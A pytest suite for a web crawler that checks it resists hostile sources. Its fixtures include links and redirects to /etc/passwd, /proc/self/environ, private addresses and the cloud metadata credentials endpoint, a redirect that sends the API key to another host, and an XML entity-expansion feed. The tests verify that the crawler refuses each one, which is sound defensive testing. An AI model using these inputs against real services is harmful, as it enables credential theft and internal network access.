"""Hostile sources: real crawls against a loopback server that attacks the crawler.

Each test stands for one attack from the issue "Hostile sources can't reach the machine" and
checks what a user would check afterwards: what the landing file holds, which failure the
source recorded, and what the servers were asked. Nothing here connects anywhere but
127.0.0.1: the private addresses a page redirects to are refused before any connection.
"""

from __future__ import annotations

import json
import re
import shutil
import threading
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from minwatch.sample_sources import SAMPLE_ROOT
from minwatch.sample_sources.server import Override, SampleServer
from minwatch.spiders.runner import CrawlResult, run_crawl
from minwatch.spiders.state import CrawlState
from tests.crawl_helpers import FAST
from tests.crawl_helpers import split_landing as landed

LOCAL_LINKS = (
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "data:text/plain;base64,cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=",  # "root:x:0:0:..."
    "ftp://127.0.0.1/etc/passwd",
)
ANTIMONY_AWARD = "619412d11a62387ed288a349c24f7024"  # a sample notice posted 2025-09-23
FOREIGN_NOTICE = "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0"
LOCAL_FILE_NOTICE = "e0e0e0e0e0e0e0e0e0e0e0e0e0e0e0e0"
SAM_WINDOW = {"from_date": "2025-09-20", "until_date": "2025-09-25"}  # two sample notices
SAM_ONE_DAY = {"from_date": "2025-09-23", "until_date": "2025-09-23"}  # ANTIMONY_AWARD only
ARTICLE = (
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title></head>'
    "<body><article><h1>{title}</h1><p>Antimony ingots traded near $52,000 per tonne in "
    "Rotterdam as buyers competed for material from smelters outside China.</p>"
    "</article></body></html>"
)

Answer = tuple[int, dict[str, str], bytes]


@dataclass(frozen=True)
class Seen:
    path: str
    headers: dict[str, str]


class HostileServer:
    """A loopback site whose routes are fixed answers; `/p/<slug>` is a plain article page.

    `__BASE__` in a body is replaced with the server's own base URL. Every request is logged.
    """

    def __init__(self, routes: Mapping[str, Answer | Callable[[], Answer]] | None = None) -> None:
        self.routes = dict(routes or {})
        self.requests: list[Seen] = []
        self._lock = threading.Lock()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._httpd.daemon_threads = True
        self.base_url = f"http://127.0.0.1:{self._httpd.server_address[1]}"

    def __enter__(self) -> HostileServer:
        threading.Thread(target=self._httpd.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()

    def paths(self) -> list[str]:
        with self._lock:
            return [seen.path for seen in self.requests]

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with server._lock:
                    server.requests.append(Seen(self.path, dict(self.headers.items())))
                route = server.routes.get(self.path)
                if route is not None:
                    status, headers, body = route() if callable(route) else route
                elif self.path == "/robots.txt":
                    status, headers, body = 200, {}, b"User-agent: *\nAllow: /\n"
                elif self.path.startswith("/p/"):
                    slug = self.path.strip("/").rsplit("/", 1)[-1]
                    page = ARTICLE.format(title=f"Article {slug}").encode()
                    status, headers, body = 200, {"Content-Type": "text/html"}, page
                else:
                    status, headers, body = 404, {"Content-Type": "text/plain"}, b"not found"
                if b"__BASE__" in body:
                    body = body.replace(b"__BASE__", server.base_url.encode())
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value.replace("__BASE__", server.base_url))
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        return Handler


def rss(links: list[str], *, extra: str = "", subset: str = "") -> bytes:
    """An RSS 2.0 feed with one item a link; `subset` becomes a DOCTYPE internal subset."""
    items = "".join(
        f"<item><title>Entry {n}</title><link>{link}</link>"
        f"<pubDate>Mon, 23 Nov 2026 08:00:00 +0000</pubDate>"
        f"<description>Summary of entry {n}.{extra}</description></item>"
        for n, link in enumerate(links)
    )
    doctype = f"<!DOCTYPE rss [{subset}]>\n" if subset else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<rss version="2.0"><channel>'
        f"<title>Hostile feed</title><link>__BASE__/</link>{items}</channel></rss>"
    ).encode()


def xml(body: bytes) -> Answer:
    return 200, {"Content-Type": "application/rss+xml; charset=utf-8"}, body


def crawl(
    source: str,
    server_url: str,
    landing: Path,
    args: Mapping[str, str] | None = None,
    settings: Mapping[str, str] | None = None,
    state: CrawlState | None = None,
) -> CrawlResult:
    result = run_crawl(
        source,
        landing_dir=landing,
        run_id="night-1",
        base_url=server_url,
        spider_args=dict(args or {}),
        settings={**FAST, **(settings or {})},
        state=state,
        timeout_s=300,
    )
    assert result.error is None, result.error
    return result


def assert_nothing_local_landed(result: CrawlResult, key: str) -> None:
    text = result.landing_path.read_text(encoding="utf-8")
    assert "root:" not in text  # /etc/passwd (and the data: URL's decoded text)
    assert key not in text  # /proc/self/environ holds SAM_GOV_API_KEY
    assert "SAM_GOV_API_KEY" not in text


# -- 1. only the open web ------------------------------------------------------------------
def _feed_site() -> tuple[str, dict[str, str], dict[str, Answer]]:
    return (
        "mining_com",
        {"feed_path": "/feed.xml"},
        {"/feed.xml": xml(rss([*LOCAL_LINKS, "__BASE__/p/good/"]))},
    )


def _sitemap_site() -> tuple[str, dict[str, str], dict[str, Answer]]:
    locs = "".join(f"<url><loc>{link}</loc></url>" for link in (*LOCAL_LINKS, "__BASE__/p/good/"))
    urlset = (
        '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"{locs}</urlset>"
    )
    index = (
        '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<sitemap><loc>__BASE__/sitemap.xml</loc></sitemap>"
        "<sitemap><loc>file:///etc/passwd</loc></sitemap></sitemapindex>"
    )
    return (
        "news_sitemaps",
        {"list_path": "/index.xml"},
        {"/index.xml": xml(index.encode()), "/sitemap.xml": xml(urlset.encode())},
    )


def _list_site() -> tuple[str, dict[str, str], dict[str, Answer]]:
    anchors = "".join(
        f'<li><a class="notice" href="{link}">Notice</a></li>'
        for link in (*LOCAL_LINKS, "/p/good/")
    )
    page = f"<html><body><ul>{anchors}</ul></body></html>".encode()
    return (
        "tests.fixtures.list_detail_spider:FixtureListDetailSpider",
        {},
        {"/index.html": (200, {"Content-Type": "text/html"}, page)},
    )


@pytest.mark.parametrize("site", [_feed_site, _sitemap_site, _list_site], ids=lambda s: s.__name__)
def test_links_to_local_files_are_refused_not_fetched(
    site: Callable[[], tuple[str, dict[str, str], dict[str, Answer]]],
    tmp_path: Path,
    sam_api_key: str,
) -> None:
    source, args, routes = site()
    with HostileServer(routes) as server:
        result = crawl(source, server.base_url, tmp_path, args)
    assert_nothing_local_landed(result, sam_api_key)
    documents, failures = landed(result)
    refused = [f for f in failures if f.error == "refused_url"]
    # feedparser writes file:///etc/passwd as file://etc/passwd; either way it is refused.
    assert {re.sub(r"^file://(?!/)", "file:///", f.url) for f in refused} >= set(LOCAL_LINKS)
    assert all(
        "not requested" in f.message and "is not http or https" in f.message for f in refused
    )
    assert [f.error for f in failures if f.error != "refused_url"] == []
    # The good link still lands; nothing lands under a local URL, not even a feed entry.
    assert [d.url for d in documents.values()] == [f"{server.base_url}/p/good/"]
    assert "/p/good/" in server.paths()


def test_redirects_to_local_files_and_private_addresses_are_refused(tmp_path: Path) -> None:
    targets = {
        "file": "file:///etc/passwd",
        "data": LOCAL_LINKS[2],
        "intranet": "http://10.0.0.1/admin/",
        "metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    }
    routes: dict[str, Answer] = {
        f"/r/{name}/": (302, {"Location": target}, b"") for name, target in targets.items()
    }
    routes["/feed.xml"] = xml(rss([f"__BASE__/r/{name}/" for name in targets]))
    with HostileServer(routes) as server:
        result = crawl("mining_com", server.base_url, tmp_path, {"feed_path": "/feed.xml"})
        asked = server.paths()
    assert "root:" not in result.landing_path.read_text(encoding="utf-8")
    _, failures = landed(result)
    # A refused hop is recorded against the feed entry whose page redirected there.
    by_page = {(f.source_id or "").rsplit("/r/", 1)[-1].strip("/"): f for f in failures}
    assert {name: f.error for name, f in by_page.items()} == {
        "file": "refused_url",
        "data": "refused_url",
        "intranet": "private_address",
        "metadata": "private_address",
    }
    assert by_page["file"].message == (
        f"RefusedUrl: redirect from {server.base_url}/r/file/ to file:///etc/passwd refused: "
        "scheme file: is not http or https"
    )
    assert "10.0.0.1 is a private address" in by_page["intranet"].message
    assert "169.254.169.254 is a link-local address" in by_page["metadata"].message
    # Every request the downloader sent reached this loopback server: nothing else was dialled.
    assert result.stats["downloader/request_count"] == len(asked)
    assert sorted(asked) == sorted(["/robots.txt", "/feed.xml", *routes.keys() - {"/feed.xml"}])


# -- 2. secrets go only where they belong ----------------------------------------------------
def _sam_root(tmp_path: Path, foreign_base: str) -> Path:
    """The sample site with three notices: a normal one, one whose description link points
    at another host, one whose description link is a local file."""
    root = tmp_path / "sam_site"
    shutil.copytree(SAMPLE_ROOT / "sam_gov", root / "sam_gov")
    records = json.loads((SAMPLE_ROOT / "sam_gov" / "opportunities.json").read_text())
    (award,) = [r for r in records["opportunitiesData"] if r["noticeId"] == ANTIMONY_AWARD]
    foreign = {
        **award,
        "noticeId": FOREIGN_NOTICE,
        "description": f"{foreign_base}/prod/opportunities/v1/noticedesc?noticeid={FOREIGN_NOTICE}",
    }
    local = {**award, "noticeId": LOCAL_FILE_NOTICE, "description": "file:///proc/self/environ"}
    records["opportunitiesData"] = [award, foreign, local]
    (root / "sam_gov" / "opportunities.json").write_text(json.dumps(records))
    return root


def test_sam_description_on_another_host_is_never_requested(
    tmp_path: Path, sam_api_key: str
) -> None:
    with (
        HostileServer() as other,
        SampleServer(_sam_root(tmp_path, other.base_url)) as sam,
    ):
        result = crawl("sam_gov", sam.base_url, tmp_path / "landing", SAM_WINDOW)
        asked_elsewhere = list(other.requests)
        api = sam.base_url
    # Another port on 127.0.0.1 is another origin: it was asked nothing, with or without key.
    assert asked_elsewhere == []
    assert_nothing_local_landed(result, sam_api_key)
    documents, failures = landed(result)
    assert documents[ANTIMONY_AWARD].data is not None
    assert documents[ANTIMONY_AWARD].data["description_html"]  # the API's own link is followed
    foreign = documents[FOREIGN_NOTICE].data
    assert foreign is not None and foreign["description_html"] is None
    assert foreign["description_error"].startswith(
        f"foreign_link: description link of notice {FOREIGN_NOTICE} points at "
        f"{other.base_url}, not the API ({api}); not requested"
    )
    local = documents[LOCAL_FILE_NOTICE].data
    assert local is not None and local["description_error"].startswith("refused_url: ")
    assert sorted((f.error, f.source_id) for f in failures) == [
        ("foreign_link", FOREIGN_NOTICE),
        ("refused_url", LOCAL_FILE_NOTICE),
    ]


def test_description_requests_carry_no_referer_and_no_key_in_headers(
    tmp_path: Path, sam_api_key: str
) -> None:
    with SampleServer() as sam:
        result = crawl("sam_gov", sam.base_url, tmp_path, SAM_WINDOW)
        requests = sam.requests
    descriptions = [r for r in requests if "noticedesc" in r.path]
    assert len(descriptions) == 2  # the two notices of the window
    # The search page URL (the would-be Referer) carries api_key: no header may.
    assert [r.headers.get("Referer") for r in descriptions] == [None, None]
    assert not [r for r in requests if any(sam_api_key in v for v in r.headers.values())]
    assert len(landed(result)[0]) == 2


def test_a_redirect_carrying_the_key_elsewhere_is_refused(tmp_path: Path, sam_api_key: str) -> None:
    with HostileServer() as other:
        steal = Override(
            302, headers={"Location": f"{other.base_url}/collect?api_key={sam_api_key}"}
        )
        with SampleServer(overrides={"/prod/opportunities/v1/noticedesc": steal}) as sam:
            # The address rule would refuse the other port first; lifted, the secret rule holds.
            result = crawl(
                "sam_gov",
                sam.base_url,
                tmp_path,
                SAM_ONE_DAY,
                settings={"MINWATCH_ALLOW_PRIVATE_ADDRESSES": "True"},
            )
        asked_elsewhere = list(other.requests)
    assert asked_elsewhere == []
    assert_nothing_local_landed(result, sam_api_key)
    documents, failures = landed(result)
    assert [(f.error, f.source_id) for f in failures] == [("secret_refused", ANTIMONY_AWARD)]
    assert failures[0].message.startswith(
        f"SecretRefused: request to {other.base_url} refused: it carries a secret of this "
        "source in its URL, and that secret may go only to "
    )
    assert "https://api.sam.gov:443" in failures[0].message
    award = documents[ANTIMONY_AWARD].data
    assert award is not None and award["description_error"].startswith("secret_refused: ")
    assert result.stats["minwatch/secret_refused"] == 1


# -- 3. bounded parsing ----------------------------------------------------------------------
def test_entity_declared_after_64_kib_is_not_expanded(tmp_path: Path) -> None:
    # Each &big; is 10,000 characters; 5,000 references expand to 50 MB from a ~90 KB feed.
    padding = "<!-- " + "p" * 70_000 + " -->"
    subset = f'{padding}<!ENTITY big "{"A" * 10_000}">'
    feed = rss(["__BASE__/p/one/"], extra="&big;" * 5_000, subset=subset)
    assert len(feed) < 200_000
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl("mining_com", server.base_url, tmp_path, {"feed_path": "/feed.xml"})
    assert result.landing_path.stat().st_size < 200_000
    documents, failures = landed(result)
    assert [(f.error, f.message) for f in failures] == [
        ("xml_entities", "feed declares XML entities (big); refused, not expanded or fetched")
    ]
    assert len(documents) == 1


def test_entity_declaration_that_cannot_be_removed_refuses_the_feed(tmp_path: Path) -> None:
    # A subset that does not parse as declarations (here: stray text) cannot be removed whole.
    subset = '<!ENTITY big "' + "A" * 10_000 + '"> stray text '
    feed = rss(["__BASE__/p/one/"], extra="&big;" * 5_000, subset=subset)
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl("mining_com", server.base_url, tmp_path, {"feed_path": "/feed.xml"})
        asked = server.paths()
    documents, failures = landed(result)
    assert documents == {}
    assert [f.error for f in failures] == ["xml_entities"]
    assert failures[0].message.startswith("feed refused unread: the DOCTYPE internal subset")
    assert "/p/one/" not in asked


def test_a_feed_of_5000_links_is_followed_only_up_to_the_cap(tmp_path: Path) -> None:
    feed = rss([f"__BASE__/p/{n}/" for n in range(5_000)])
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl(
            "mining_com",
            server.base_url,
            tmp_path,
            {"feed_path": "/feed.xml"},
            settings={"MINWATCH_MAX_LINKS_PER_PAGE": "100"},
        )
        pages = [p for p in server.paths() if p.startswith("/p/")]
    assert len(pages) <= 100
    documents, failures = landed(result)
    assert len(documents) == len(pages) == 100
    assert [(f.error, f.message) for f in failures] == [
        (
            "cap_links",
            "the page has 5000 links to follow, more than MINWATCH_MAX_LINKS_PER_PAGE (100); "
            "the first 100 were followed, the other 4900 are left for another night",
        )
    ]
    assert result.stats["minwatch/cap_links/dropped"] == 4_900


def test_documents_per_source_are_capped_and_the_rest_left_unseen(tmp_path: Path) -> None:
    feed = rss([f"__BASE__/p/{n}/" for n in range(30)])
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl(
            "mining_com",
            server.base_url,
            tmp_path,
            {"feed_path": "/feed.xml"},
            settings={"MINWATCH_MAX_DOCUMENTS_PER_SOURCE": "10"},
            state=CrawlState(),
        )
    documents, failures = landed(result)
    assert len(documents) == 10
    assert [f.error for f in failures] == ["cap_documents"]
    assert failures[0].message.startswith(
        "the crawl reached MINWATCH_MAX_DOCUMENTS_PER_SOURCE (10 document requests); 20 more"
    )
    # Only the fetched documents count as seen: the next night asks for the other 20.
    assert result.state_path is not None
    assert len(CrawlState.load(result.state_path).seen) == 10


def test_a_30_mb_text_document_is_refused_as_parsed_too_large(tmp_path: Path) -> None:
    huge = ARTICLE.format(title="Huge").replace("</article>", "A" * 30_000_000 + "</article>")
    routes: dict[str, Answer] = {
        "/feed.xml": xml(rss(["__BASE__/p/small/", "__BASE__/huge/"])),
        "/huge/": (200, {"Content-Type": "text/html; charset=utf-8"}, huge.encode()),
    }
    with HostileServer(routes) as server:
        result = crawl(
            "mining_com",
            server.base_url,
            tmp_path,
            {"feed_path": "/feed.xml"},
            # A source may need large pages (DOWNLOAD_MAXSIZE); the parsed cap still holds.
            settings={
                "DOWNLOAD_MAXSIZE": str(64 << 20),
                "MINWATCH_MAX_PARSED_BYTES": str(16 << 20),
            },
        )
    assert result.landing_path.stat().st_size < 100_000
    documents, failures = landed(result)
    assert [d.url for d in documents.values()] == [f"{server.base_url}/p/small/"]
    (failure,) = failures
    assert (failure.error, failure.url) == ("parsed_too_large", f"{server.base_url}/huge/")
    assert failure.message.startswith("the document holds 300")
    assert failure.message.endswith(
        "B of text, more than MINWATCH_MAX_PARSED_BYTES (16777216 B); refused, not landed"
    )


def test_a_feed_whose_entries_parse_past_the_cap_is_refused(tmp_path: Path) -> None:
    feed = rss([f"__BASE__/p/{n}/" for n in range(20)], extra=" words" * 200)
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl(
            "mining_com",
            server.base_url,
            tmp_path,
            {"feed_path": "/feed.xml"},
            settings={"MINWATCH_MAX_PARSED_BYTES": "10000"},
        )
        asked = server.paths()
    documents, failures = landed(result)
    assert documents == {}
    assert [f.error for f in failures] == ["parsed_too_large"]
    assert "more than MINWATCH_MAX_PARSED_BYTES (10000 B)" in failures[0].message
    assert not [p for p in asked if p.startswith("/p/")]


# -- 4. date windows ---------------------------------------------------------------------------
def test_a_feed_skips_entries_outside_the_date_window(tmp_path: Path) -> None:
    items = "".join(
        f"<item><title>Day {day}</title><link>__BASE__/p/{day}/</link>"
        f"<pubDate>{day} Nov 2026 08:00:00 +0000</pubDate></item>"
        for day in (10, 20, 25, 30)
    )
    feed = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Dated</title>'
        f"<link>__BASE__/</link>{items}</channel></rss>"
    ).encode()
    with HostileServer({"/feed.xml": xml(feed)}) as server:
        result = crawl(
            "mining_com",
            server.base_url,
            tmp_path,
            {"feed_path": "/feed.xml", "from_date": "2026-11-15", "until_date": "2026-11-25"},
        )
        pages = sorted(p for p in server.paths() if p.startswith("/p/"))
    assert pages == ["/p/20/", "/p/25/"]
    assert sorted(d.title or "" for d in landed(result)[0].values()) == ["Day 20", "Day 25"]
    assert result.stats["minwatch/skipped_outside_window"] == 2


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            {"from_date": "2026-02-30"},
            "MiningDotComFeedSpider got `from_date` '2026-02-30', which is not an ISO date",
        ),
        (
            {"from_date": "2026-03-01", "until_date": "2026-02-01"},
            "MiningDotComFeedSpider got `from_date` 2026-03-01 after `until_date` 2026-02-01",
        ),
    ],
)
def test_a_bad_date_window_is_a_configuration_error(
    args: dict[str, str], message: str, tmp_path: Path
) -> None:
    result = run_crawl(
        "mining_com",
        landing_dir=tmp_path,
        run_id="bad-window",
        base_url="http://127.0.0.1:9",
        spider_args=args,
        settings=FAST,
        timeout_s=120,
    )
    assert result.returncode == 2
    assert result.error is not None and message in result.error


def test_an_old_argument_name_is_refused_with_its_new_name(tmp_path: Path) -> None:
    result = run_crawl(
        "gdelt",
        landing_dir=tmp_path,
        run_id="old-name",
        base_url="http://127.0.0.1:9",
        spider_args={"since": "2026-01-01"},
        settings=FAST,
        timeout_s=120,
    )
    assert result.returncode == 2
    assert result.error is not None
    assert "GdeltDocSpider got `since`, which is now `from_date`; pass `from_date` instead." in (
        result.error
    )
